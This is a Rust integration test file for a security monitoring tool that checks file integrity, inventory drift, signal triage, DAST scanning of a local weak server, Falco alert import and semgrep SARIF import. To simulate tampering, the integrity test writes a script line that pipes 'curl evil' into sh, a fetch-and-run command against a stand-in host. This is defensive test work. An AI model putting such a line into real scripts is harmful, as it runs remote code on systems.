//! Signals from the running system through the binary, on the demo store: a file
//! integrity baseline and check (added, removed, content and permission-only changes,
//! exit codes, issues recorded and closed when fixed), an inventory's drift, and signal
//! triage.
#![allow(clippy::unwrap_used, reason = "tests panic on failure by design")]

use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;

use serde_json::Value;

fn vigil(cwd: &Path, args: &[&str], stdin: Option<&str>) -> (i32, String, String) {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_vigil"));
    cmd.args(args)
        .current_dir(cwd)
        .env_remove("VIGIL_DATABASE_URL")
        .env_remove("VIGIL_DATA_DIR")
        .env_remove("VIGIL_TOKEN");
    let out = match stdin {
        Some(text) => {
            use std::io::Write;
            let mut child = cmd
                .stdin(std::process::Stdio::piped())
                .stdout(std::process::Stdio::piped())
                .stderr(std::process::Stdio::piped())
                .spawn()
                .unwrap();
            child
                .stdin
                .take()
                .unwrap()
                .write_all(text.as_bytes())
                .unwrap();
            child.wait_with_output().unwrap()
        }
        None => cmd.output().unwrap(),
    };
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8(out.stdout).unwrap(),
        String::from_utf8(out.stderr).unwrap(),
    )
}

fn json(cwd: &Path, args: &[&str]) -> Value {
    let mut all = vec!["--data-dir", "store"];
    all.extend(args);
    all.extend(["--format", "json"]);
    let (_, out, err) = vigil(cwd, &all, None);
    serde_json::from_str(&out).unwrap_or_else(|e| panic!("{args:?}: {e}: {out} {err}"))
}

#[test]
fn file_integrity_baseline_check_and_issues() {
    let tmp = tempfile::tempdir().unwrap();
    let cwd = tmp.path();
    assert_eq!(
        vigil(cwd, &["demo", "--dir", "store", "--no-serve"], None).0,
        0
    );
    let app = cwd.join("app");
    std::fs::create_dir_all(app.join("bin")).unwrap();
    std::fs::write(app.join("bin/run"), "#!/bin/sh\necho ok\n").unwrap();
    std::fs::write(app.join("app.conf"), "port = 8080\n").unwrap();
    std::fs::write(app.join("old.txt"), "x").unwrap();
    let b = json(
        cwd,
        &[
            "fim",
            "baseline",
            "--service",
            "checkout",
            "--version",
            "2.4.0",
            "app",
        ],
    );
    assert_eq!(b["files"], 3, "{b}");
    let check = [
        "--data-dir",
        "store",
        "fim",
        "check",
        "--service",
        "checkout",
        "--version",
        "2.4.0",
        "app",
    ];
    let (code, out, err) = vigil(cwd, &check, None);
    assert_eq!(code, 0, "clean: {out} {err}");
    // Content, permission only, added, removed.
    std::fs::write(app.join("bin/run"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
    std::fs::set_permissions(app.join("app.conf"), std::fs::Permissions::from_mode(0o666)).unwrap();
    std::fs::write(app.join("dropper"), "x").unwrap();
    std::fs::remove_file(app.join("old.txt")).unwrap();
    let mut with_env = check.to_vec();
    with_env.extend(["--env", "production", "--format", "json"]);
    let (code, out, err) = vigil(cwd, &with_env, None);
    assert_eq!(code, 1, "changes: {err}");
    let report: Value = serde_json::from_str(&out).unwrap();
    let mut seen: Vec<(String, String, Vec<String>)> = report["changes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            (
                c["change"].as_str().unwrap().to_owned(),
                c["path"].as_str().unwrap().to_owned(),
                c["what"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .map(|w| w.as_str().unwrap().to_owned())
                    .collect(),
            )
        })
        .collect();
    seen.sort();
    assert_eq!(
        seen,
        vec![
            ("added".into(), "dropper".into(), vec![]),
            ("changed".into(), "app.conf".into(), vec!["mode".into()]),
            (
                "changed".into(),
                "bin/run".into(),
                vec!["content".into(), "size".into()]
            ),
            ("removed".into(), "old.txt".into(), vec![]),
        ],
        "{out}"
    );
    let signals = json(cwd, &["signals", "list", "--kind", "fim"]);
    assert_eq!(signals.as_array().unwrap().len(), 4, "{signals}");
    let high: Vec<&Value> = signals
        .as_array()
        .unwrap()
        .iter()
        .filter(|s| s["severity"] == "high")
        .collect();
    assert_eq!(high.len(), 1, "the content change is high: {signals}");
    // Put it back: the next check closes the issues.
    std::fs::write(app.join("bin/run"), "#!/bin/sh\necho ok\n").unwrap();
    std::fs::set_permissions(app.join("app.conf"), std::fs::Permissions::from_mode(0o644)).unwrap();
    std::fs::remove_file(app.join("dropper")).unwrap();
    std::fs::write(app.join("old.txt"), "x").unwrap();
    let (code, _, err) = vigil(cwd, &with_env, None);
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        json(cwd, &["signals", "list", "--kind", "fim"])
            .as_array()
            .unwrap()
            .len(),
        0
    );
    // A baseline needs a release that exists, and a check a baseline.
    let (code, _, err) = vigil(
        cwd,
        &[
            "--data-dir",
            "store",
            "fim",
            "baseline",
            "--service",
            "checkout",
            "--version",
            "9.9.9",
            "app",
        ],
        None,
    );
    assert_eq!(code, 2, "{err}");
    let (code, _, err) = vigil(
        cwd,
        &[
            "--data-dir",
            "store",
            "fim",
            "check",
            "--service",
            "catalog",
            "--version",
            "3.1.0",
            "app",
        ],
        None,
    );
    assert_ne!(code, 0);
    assert!(err.contains("no baseline"), "{err}");
}

#[test]
fn an_inventory_shows_drift_and_signals_are_triaged() {
    let tmp = tempfile::tempdir().unwrap();
    let cwd = tmp.path();
    assert_eq!(
        vigil(cwd, &["demo", "--dir", "store", "--no-serve"], None).0,
        0
    );
    // What runs in staging, by name and version: checkout runs 2.4.0 where 2.4.1 is
    // deployed, and search-indexer is not running.
    let list = r#"[{"service": "checkout", "version": "2.4.0"}, {"service": "payments-api", "version": "1.5.0"},
        {"service": "catalog", "version": "3.2.0"}, {"service": "gateway", "version": "1.9.0"}]"#;
    let (code, out, err) = vigil(
        cwd,
        &["--data-dir", "store", "inventory", "-", "--env", "staging"],
        Some(list),
    );
    assert_eq!(code, 1, "drift: {out} {err}");
    assert!(
        out.contains("drift.version_mismatch") && out.contains("drift.missing"),
        "{out}"
    );
    let signals = json(cwd, &["signals", "list", "--env", "staging"]);
    let missing = signals
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["rule"] == "drift.missing")
        .unwrap();
    let id = missing["id"].as_i64().unwrap().to_string();
    let (code, out, err) = vigil(
        cwd,
        &[
            "--data-dir",
            "store",
            "signals",
            "triage",
            &id,
            "--status",
            "risk_accepted",
            "--for-days",
            "7",
            "--reason",
            "scaled to zero at night",
        ],
        None,
    );
    assert_eq!(code, 0, "{out} {err}");
    let after = json(cwd, &["signals", "list", "--env", "staging"]);
    let row = after
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["id"].as_i64().unwrap().to_string() == id)
        .unwrap();
    assert_eq!(row["triage"], "risk_accepted");
    assert_eq!(row["overdue"], false);
    let (code, _, err) = vigil(
        cwd,
        &[
            "--data-dir",
            "store",
            "signals",
            "triage",
            &id,
            "--status",
            "not_affected",
        ],
        None,
    );
    assert_eq!(code, 2, "a justification is needed: {err}");
}

/// A site that leaks: no security headers, a version in `Server`, and `/.git/HEAD`.
fn weak_site() -> (String, std::thread::JoinHandle<()>) {
    use std::io::{BufRead, BufReader, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let base = format!("http://{}/", listener.local_addr().unwrap());
    let handle = std::thread::spawn(move || {
        for stream in listener.incoming().take(200) {
            let Ok(mut stream) = stream else { break };
            let mut reader = BufReader::new(stream.try_clone().unwrap());
            let mut first = String::new();
            if reader.read_line(&mut first).is_err() {
                continue;
            }
            loop {
                let mut line = String::new();
                if reader.read_line(&mut line).unwrap_or(0) == 0 || line == "\r\n" {
                    break;
                }
            }
            let path = first.split_whitespace().nth(1).unwrap_or("/").to_owned();
            let (status, body) = match path.as_str() {
                "/" => (
                    "200 OK",
                    "<html><body><a href=\"/about\">about</a></body></html>",
                ),
                "/about" => ("200 OK", "<html><body>about us</body></html>"),
                "/.git/HEAD" => ("200 OK", "ref: refs/heads/main\n"),
                _ => ("404 Not Found", "<html><body>not found</body></html>"),
            };
            let _ = write!(
                stream,
                "HTTP/1.1 {status}\r\nServer: Apache/2.4.41 (Ubuntu)\r\nContent-Type: text/html\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
            if path == "/stop" {
                break;
            }
        }
    });
    (base, handle)
}

#[test]
fn a_dast_scan_records_issues_of_the_service() {
    let tmp = tempfile::tempdir().unwrap();
    let cwd = tmp.path();
    assert_eq!(
        vigil(cwd, &["demo", "--dir", "store", "--no-serve"], None).0,
        0
    );
    let (base, server) = weak_site();
    let args = [
        "--data-dir",
        "store",
        "dast",
        &base,
        "--env",
        "staging",
        "--service",
        "checkout",
        "--rate",
        "100",
        "--format",
        "json",
    ];
    let (code, out, err) = vigil(cwd, &args, None);
    assert_eq!(
        code, 1,
        "a high finding (exposed .git) fails the default --fail-on high: {err}"
    );
    let report: Value = serde_json::from_str(&out).unwrap();
    let checks: Vec<&str> = report["report"]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["check"]["id"].as_str().unwrap())
        .collect();
    for expected in ["csp-missing", "server-version", "exposed-git"] {
        assert!(checks.contains(&expected), "{expected} in {checks:?}");
    }
    assert_eq!(
        report["recorded"]["release"], "2.4.1",
        "the release deployed in staging"
    );
    let signals = json(
        cwd,
        &["signals", "list", "--kind", "dast", "--env", "staging"],
    );
    assert_eq!(signals.as_array().unwrap().len(), checks.len(), "{signals}");
    let _ = std::net::TcpStream::connect(base.trim_start_matches("http://").trim_end_matches('/'))
        .and_then(|mut s| std::io::Write::write_all(&mut s, b"GET /stop HTTP/1.1\r\n\r\n"));
    let _ = server.join();
}

/// Falco alerts written for this project in Falco's documented JSON output, tied to the
/// demo's releases: payments-api 1.4.2 in production (by namespace mapping and pod name;
/// it has KEV-listed log4j findings, so Notice rises to medium), catalog 3.2.0 in
/// staging (by namespace and app label), gateway in production by a hostname mapping,
/// and a repeated uuid kept once.
#[test]
fn falco_alerts_are_tied_to_the_demo_releases() {
    let tmp = tempfile::tempdir().unwrap();
    let cwd = tmp.path();
    assert_eq!(
        vigil(cwd, &["demo", "--dir", "store", "--no-serve"], None).0,
        0
    );
    for (kind, name, env, service) in [
        ("namespace", "shop-prod", "production", None),
        ("hostname", "gateway-vm-2", "production", Some("gateway")),
    ] {
        let mut args = vec![
            "--data-dir",
            "store",
            "runtime",
            "map",
            "--kind",
            kind,
            "--name",
            name,
            "--env",
            env,
        ];
        if let Some(s) = service {
            args.extend(["--service", s]);
        }
        let (code, _, err) = vigil(cwd, &args, None);
        assert_eq!(code, 0, "{err}");
    }
    let fixture = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/fixtures/falco/demo-alerts.ndjson"
    );
    let out = json(cwd, &["runtime", "falco", fixture]);
    let seen: Vec<(Value, Value, Value, Value, Value)> = out
        .as_array()
        .unwrap()
        .iter()
        .map(|o| {
            (
                o["environment"].clone(),
                o["service"].clone(),
                o["release"].clone(),
                o["severity"].clone(),
                o["stored"].clone(),
            )
        })
        .collect();
    use serde_json::json as j;
    assert_eq!(
        seen,
        vec![
            (
                j!("production"),
                j!("payments-api"),
                j!("1.4.2"),
                j!("medium"),
                j!(true)
            ),
            (
                j!("staging"),
                j!("catalog"),
                j!("3.2.0"),
                j!("medium"),
                j!(true)
            ),
            (
                j!("production"),
                j!("gateway"),
                j!("1.9.0"),
                j!("critical"),
                j!(true)
            ),
            (
                j!("production"),
                j!("payments-api"),
                j!("1.4.2"),
                j!("medium"),
                j!(false)
            ),
        ],
        "{out}"
    );
    assert_eq!(
        out[0]["linked"],
        j!(["GHSA-7rjr-3q55-vv33", "GHSA-jfh8-c2jp-5v3q"]),
        "the KEV-listed log4j advisories open on payments-api 1.4.2"
    );
    let alerts = json(cwd, &["runtime", "alerts"]);
    assert_eq!(alerts.as_array().unwrap().len(), 3);
    // A mapping can be removed, once.
    assert_eq!(
        json(cwd, &["runtime", "mappings"])
            .as_array()
            .unwrap()
            .len(),
        2
    );
    let unmap = [
        "--data-dir",
        "store",
        "runtime",
        "unmap",
        "--kind",
        "hostname",
        "--name",
        "gateway-vm-2",
    ];
    let (code, out, err) = vigil(cwd, &unmap, None);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("no longer mapped"), "{out}");
    let (code, _, err) = vigil(cwd, &unmap, None);
    assert_ne!(code, 0);
    assert!(
        err.contains("no hostname mapping \"gateway-vm-2\""),
        "{err}"
    );
    let left = json(cwd, &["runtime", "mappings"]);
    assert_eq!(left[0]["name"], j!("shop-prod"), "{left}");
    assert_eq!(left.as_array().unwrap().len(), 1, "{left}");
}

/// Semgrep from PATH or `VIGIL_SEMGREP`, or `None` after saying why the test is skipped
/// (CI installs it and sets `VIGIL_REQUIRE_SEMGREP=1`, which makes its absence fail).
fn semgrep() -> Option<std::path::PathBuf> {
    let program = std::env::var_os("VIGIL_SEMGREP").map_or_else(
        || std::path::PathBuf::from("semgrep"),
        std::path::PathBuf::from,
    );
    let works = Command::new(&program)
        .args(["--version", "--disable-version-check"])
        .output()
        .is_ok_and(|o| o.status.success());
    if works {
        return Some(program);
    }
    assert!(
        std::env::var("VIGIL_REQUIRE_SEMGREP").as_deref() != Ok("1"),
        "VIGIL_REQUIRE_SEMGREP=1 but {} does not run; pip install semgrep==1.187.0",
        program.display()
    );
    eprintln!(
        "SKIPPED semgrep: {} does not run; pip install semgrep==1.187.0, or set VIGIL_SEMGREP",
        program.display()
    );
    None
}

fn copy_tree(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for entry in std::fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let target = to.join(entry.file_name());
        if entry.file_type().unwrap().is_dir() {
            copy_tree(&entry.path(), &target);
        } else {
            std::fs::copy(entry.path(), target).unwrap();
        }
    }
}

/// A real semgrep run (rules and code written for the project) imported as SARIF; after
/// a fix, the next run's import closes what is gone and keeps the triage of what stays.
#[test]
fn a_live_semgrep_run_is_imported_and_reimported() {
    let Some(program) = semgrep() else { return };
    let tmp = tempfile::tempdir().unwrap();
    let cwd = tmp.path();
    assert_eq!(
        vigil(cwd, &["demo", "--dir", "store", "--no-serve"], None).0,
        0
    );
    let fixtures = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../vigil-reports/tests/fixtures"
    );
    // Semgrep skips `tests/` paths and files git does not track: scan a copy.
    let target = cwd.join("code");
    copy_tree(&Path::new(fixtures).join("semgrep-target"), &target);
    std::fs::copy(
        Path::new(fixtures).join("semgrep-rules.yml"),
        cwd.join("rules.yml"),
    )
    .unwrap();
    let scan = |out: &str| {
        let status = Command::new(&program)
            .current_dir(&target)
            .env("SEMGREP_ENABLE_VERSION_CHECK", "0")
            .env("SEMGREP_SEND_METRICS", "off")
            .args([
                "scan",
                "--config",
                "../rules.yml",
                "--metrics=off",
                "--disable-version-check",
                "--quiet",
            ])
            .arg(format!("--sarif-output={}", cwd.join(out).display()))
            .arg(".")
            .status()
            .unwrap();
        assert!(status.success(), "semgrep failed");
    };
    let import = |file: &str| {
        json(
            cwd,
            &[
                "import",
                "sarif",
                file,
                "--env",
                "production",
                "--service",
                "checkout",
            ],
        )
    };
    scan("first.sarif");
    let first = import("first.sarif");
    assert_eq!(first["opened"].as_array().unwrap().len(), 4, "{first}");
    let signals = json(cwd, &["signals", "list", "--kind", "sarif"]);
    let inner_html = signals
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["rule"].as_str().unwrap().ends_with("js-inner-html"))
        .unwrap_or_else(|| panic!("{signals}"));
    let id = inner_html["id"].as_i64().unwrap().to_string();
    let (code, _, err) = vigil(
        cwd,
        &[
            "--data-dir",
            "store",
            "signals",
            "triage",
            &id,
            "--status",
            "affected",
            "--action",
            "escape with textContent in 2.5.0",
        ],
        None,
    );
    assert_eq!(code, 0, "{err}");
    // Fix the Python: its three findings go, the JavaScript one stays with its triage.
    std::fs::copy(target.join("app/safe.py"), target.join("app/views.py")).unwrap();
    scan("second.sarif");
    let second = import("second.sarif");
    assert_eq!(second["closed"].as_array().unwrap().len(), 3, "{second}");
    assert_eq!(second["kept"].as_array().unwrap().len(), 1, "{second}");
    let open = json(cwd, &["signals", "list", "--kind", "sarif"]);
    assert_eq!(open.as_array().unwrap().len(), 1);
    assert_eq!(open[0]["triage"], "affected", "{open}");
}
